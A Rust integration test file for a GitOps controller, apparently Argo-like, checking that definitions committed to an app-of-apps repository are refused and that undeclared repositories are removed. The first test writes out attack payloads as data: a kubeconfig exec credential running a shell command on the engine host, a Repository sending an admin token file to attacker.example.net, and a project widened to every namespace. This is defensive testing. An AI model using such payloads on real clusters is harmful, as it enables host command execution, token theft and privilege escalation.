//! Issue 13's app-of-apps defects end to end: definitions from Git no longer trusted like
//! the operator's (1), and Git definitions removed when no longer declared (11).

use std::time::{Duration, Instant};

use driftless_testkit::repo::TestRepo;

use super::{argo_child, cfg, cm, file_url, root_app, until_event};
use crate::common::wait_status;
use crate::common::*;
use crate::reliability_input::app_yaml;
use driftless_engine::controller::Reason;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn defect_01_git_cannot_run_commands_read_files_or_widen_projects() {
    let env = env().await;
    let (ctl, _stop, dir) = running_controller(&env, cfg()).await;
    let marker = dir.path().join("exec-ran");
    let token_file = dir.path().join("api-token");
    std::fs::write(&token_file, "admin-token-value").unwrap();
    // The operator's team-b project keeps its application out of `forbidden`.
    let team_b = driftless_core::project::parse(
        "apiVersion: argoproj.io/v1alpha1\nkind: AppProject\nmetadata: {name: team-b}\nspec: {sourceRepos: ['*'], destinations: [{namespace: team-b}]}\n",
        "ops.yaml",
    )
    .unwrap()
    .remove(0);
    ctl.set_project(team_b, "alice").await.unwrap();
    let work = TestRepo::new("b");
    work.commit(&[("app/cm.yaml", Some(&cm("b", "forbidden")))], "b");
    ctl.set_app(
        app_yaml(
            "b-app",
            "team-b",
            &file_url(&work),
            "app",
            "forbidden",
            "automated: {}",
        ),
        "alice",
    )
    .await
    .unwrap();
    wait_status(&ctl, "b-app", "the expected status", |s| {
        s.error
            .as_deref()
            .is_some_and(|e| e.contains("project team-b"))
    })
    .await;
    // The attacker commits to the app-of-apps repository.
    let repo = TestRepo::new("fleet");
    let url = file_url(&repo);
    let cluster = format!(
        "apiVersion: driftless.dev/v1alpha1\nkind: Cluster\nmetadata: {{name: evil}}\nspec:\n  allowExecCredentials: true\n  kubeconfig: |\n    apiVersion: v1\n    kind: Config\n    clusters: [{{name: c, cluster: {{server: 'https://127.0.0.1:1'}}}}]\n    users: [{{name: u, user: {{exec: {{apiVersion: client.authentication.k8s.io/v1, command: sh, args: [-c, 'touch {}'], interactiveMode: Never}}}}}}]\n    contexts: [{{name: c, context: {{cluster: c, user: u}}}}]\n    current-context: c\n",
        marker.display()
    );
    let repository = format!(
        "apiVersion: driftless.dev/v1alpha1\nkind: Repository\nmetadata: {{name: exfil}}\nspec:\n  url: https://attacker.example.net/x.git\n  bearerToken: {{file: {}}}\n  ca: |\n    -----BEGIN CERTIFICATE-----\n    MIIB\n    -----END CERTIFICATE-----\n",
        token_file.display()
    );
    let widen = "apiVersion: argoproj.io/v1alpha1\nkind: AppProject\nmetadata: {name: team-b}\nspec: {sourceRepos: ['*'], destinations: [{namespace: '*', server: '*'}], clusterResourceWhitelist: [{group: '*', kind: '*'}]}\n";
    repo.commit(
        &[
            ("apps/cluster.yaml", Some(&cluster)),
            ("apps/repository.yaml", Some(&repository)),
            ("apps/project.yaml", Some(widen)),
        ],
        "takeover",
    );
    ctl.set_app(
        root_app(&url, "default", "automated: {prune: true}"),
        "alice",
    )
    .await
    .unwrap();
    for (what, field) in [
        ("Cluster evil", "apps/cluster.yaml"),
        ("Repository exfil", "apps/repository.yaml"),
        ("Project team-b", "apps/project.yaml"),
    ] {
        let m = until_event(&ctl, "root", "DefinitionRefused", |m| m.contains(what)).await;
        assert!(
            m.contains(field) && m.contains("#0"),
            "the event names the document: {m}"
        );
    }
    assert!(
        !marker.exists(),
        "the exec credential ran on the engine's host"
    );
    assert!(ctl.clusters().iter().all(|c| c["name"] != "evil"));
    assert!(ctl.repositories().iter().all(|r| r.name != "exfil"));
    ctl.enqueue("b-app", Reason::User);
    let s = wait_status(&ctl, "b-app", "the expected status", |s| {
        s.error
            .as_deref()
            .is_some_and(|e| e.contains("project team-b"))
    })
    .await;
    assert!(s.error.as_deref().unwrap().contains("forbidden"), "{s:?}");
    assert!(
        get(&env, "v1", "ConfigMap", "forbidden", "b")
            .await
            .is_none()
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn defect_11_git_declared_repositories_go_when_git_stops_declaring_them() {
    let env = env().await;
    let (ctl, _stop, _dir) = running_controller(&env, cfg()).await;
    let fleet = driftless_core::project::parse(
        "apiVersion: driftless.dev/v1alpha1\nkind: Project\nmetadata: {name: fleet}\nspec: {sourceRepos: ['*'], destinations: [{namespace: '*'}], childProjects: [default], childKinds: [Repository]}\n",
        "ops.yaml",
    )
    .unwrap()
    .remove(0);
    ctl.set_project(fleet, "alice").await.unwrap();
    let repo = TestRepo::new("fleet");
    let url = file_url(&repo);
    let declared = "apiVersion: driftless.dev/v1alpha1\nkind: Repository\nmetadata: {name: charts}\nspec: {url: 'https://git.example.com/charts.git', bearerToken: inline}\n";
    repo.commit(
        &[
            ("apps/web.yaml", Some(&argo_child("web", &url))),
            ("apps/repo.yaml", Some(declared)),
            ("workloads/cm.yaml", Some(&cm("w", "web"))),
        ],
        "declare",
    );
    ctl.set_app(root_app(&url, "fleet", "automated: {prune: true}"), "alice")
        .await
        .unwrap();
    let deadline = Instant::now() + Duration::from_secs(30);
    while ctl.repositories().iter().all(|r| r.name != "charts") {
        assert!(Instant::now() < deadline, "charts never registered");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert_eq!(ctl.repositories()[0].parent.as_deref(), Some("root"));
    repo.commit(&[("apps/repo.yaml", None)], "undeclare");
    ctl.source_changed(std::slice::from_ref(&url)).await;
    let m = until_event(&ctl, "root", "DefinitionRemoved", |m| m.contains("charts")).await;
    assert!(m.contains("repository charts"), "{m}");
    assert!(ctl.repositories().is_empty());
    assert!(
        ctl.app_names().await.contains(&"web".to_string()),
        "the still-declared child stays"
    );
}
